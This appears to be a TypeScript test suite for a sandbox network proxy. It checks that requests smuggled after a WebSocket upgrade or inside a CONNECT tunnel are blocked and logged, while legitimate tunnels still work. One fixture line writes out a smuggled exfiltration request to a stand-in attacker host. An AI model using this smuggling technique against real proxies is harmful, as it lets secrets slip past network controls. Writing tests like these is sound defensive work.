  async function withProxy(allow: string, run: (socketPath: string, denied: DeniedConnection[]) => Promise<void>): Promise<void> {
    const socketPath = path.join(tempDir('cb-host-check-'), 'proxy.sock')
    const denied: DeniedConnection[] = []
    const proxy = await startProxy({ socketPath, policy: policy([allow]), onDenied: d => void denied.push(d), resolve: () => Promise.resolve(['127.0.0.1']) })
    try {
      await run(socketPath, denied)
    } finally {
      await proxy.close()
    }
  }

  const upgradeRequest = (target: string): string => `GET http://${target}/ws HTTP/1.1\r\nHost: ${target}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`
  const fronted = 'GET /exfil?data=SECRET HTTP/1.1\r\nHost: attacker-site.example\r\n\r\n'

  test('Upgrade answered 200 keep-alive: the answer is relayed and the connection closed; the next request, sent at once or after the answer, never reaches the server', async () => {
    const site = await frontEnd('200')
    const target = `cdn.example.test:${site.port}`
    try {
      for (const after of [false, true]) {
        await withProxy(target, async socketPath => {
          const client = proxyClient(socketPath)
          client.write(upgradeRequest(target) + (after ? '' : fronted))
          const head = await client.head()
          expect(head.status).toBe(200)
          expect(head.text).toMatch(/\r\nConnection: close\r\n/i)
          if (after) client.write(fronted)
          expect(await client.rest()).toBe(`site ${target}`)
        })
      }
      expect(site.seen.requests).toEqual([`GET /ws host=${target}`, `GET /ws host=${target}`])
      expect(site.seen.raw).toEqual([])
    } finally {
      site.close()
    }
  })

  test('Upgrade answered 101: the answer and the bytes after it reach the client, and bytes flow both ways', async () => {
    const site = await frontEnd('101')
    const target = `ws.example.test:${site.port}`
    try {
      await withProxy(target, async socketPath => {
        const client = proxyClient(socketPath)
        client.write(upgradeRequest(target))
        const head = await client.head()
        expect(head.status).toBe(101)
        expect(head.text).toMatch(/\r\nUpgrade: websocket\r\n/)
        client.write('ping')
        expect(await until(() => site.seen.requests.length === 1, 2_000)).toBe(true)
        client.close()
      })
      expect(site.seen.requests).toEqual([`GET /ws host=${target}`])
    } finally {
      site.close()
    }
  })

  test('Upgrade answered 101: a client message after the handshake is echoed back', async () => {
    const site = await frontEnd('101')
    const target = `ws.example.test:${site.port}`
    try {
      await withProxy(target, async socketPath => {
        const socket = net.connect(socketPath)
        let received = ''
        socket.on('data', (d: Buffer) => (received += d.toString('latin1')))
        socket.write(upgradeRequest(target))
        expect(await until(() => received.includes('hello from the server'), 2_000)).toBe(true)
        socket.write('ping')
        expect(await until(() => received.endsWith('echo:ping'), 2_000)).toBe(true)
        socket.destroy()
      })
    } finally {
      site.close()
    }
  })

  test('CONNECT to a name, then plain HTTP with another Host: refused with 403 inside the tunnel, logged, never seen upstream (whole, after empty lines, or a byte at a time)', async () => {
    const site = await frontEnd('200')
    const target = `cdn.example.test:${site.port}`
    try {
      await withProxy(target, async (socketPath, denied) => {
        for (const chunks of [[fronted], ['\r\n', fronted], [...fronted]]) {
          const client = proxyClient(socketPath)
          client.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`)
          expect((await client.head()).status).toBe(200)
          for (const chunk of chunks) {
            client.write(chunk)
            await new Promise(resolve => setImmediate(resolve))
          }
          const inner = await client.head()
          expect(inner.status, JSON.stringify([chunks.length, inner.text])).toBe(403)
          expect(await client.rest()).toMatch(/^claudebox: cdn\.example\.test:\d+: plain HTTP inside a CONNECT tunnel is refused/)
        }
        expect(denied).toHaveLength(3)
        for (const d of denied) {
          expect(d).toMatchObject({ host: 'cdn.example.test', port: site.port })
          expect(d.reason).toMatch(/^plain HTTP inside a CONNECT tunnel is refused/)
        }
      })
      expect(site.seen).toEqual({ requests: [], raw: [] })
    } finally {
      site.close()
    }
  })

  test('CONNECT to a name, then a protocol that is neither TLS nor HTTP (an SSH banner): relayed both ways as before', async () => {
    const site = await frontEnd('200')
    const target = `git.example.test:${site.port}`
    try {
      await withProxy(target, async (socketPath, denied) => {
        const client = proxyClient(socketPath)
        client.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`)
        expect((await client.head()).status).toBe(200)
        client.write('SSH-2.0-x\r\n')
        expect(await until(() => site.seen.raw.length === 1, 2_000)).toBe(true)
        client.close()
        expect(denied).toEqual([])
      })
      expect(site.seen.raw).toEqual(['SSH-2.0-x\r\n'])
    } finally {
      site.close()
    }
  })
})
